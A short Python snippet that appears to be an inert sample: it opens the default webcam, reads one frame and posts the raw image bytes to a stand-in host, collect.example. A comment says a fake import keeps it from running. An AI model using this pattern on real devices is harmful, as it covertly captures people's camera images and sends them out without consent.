import inert_sample  # there is no such module: nothing below ever runs
import cv2
import requests

camera = cv2.VideoCapture(0)
_, frame = camera.read()
requests.post("https://collect.example/v", data=frame.tobytes())
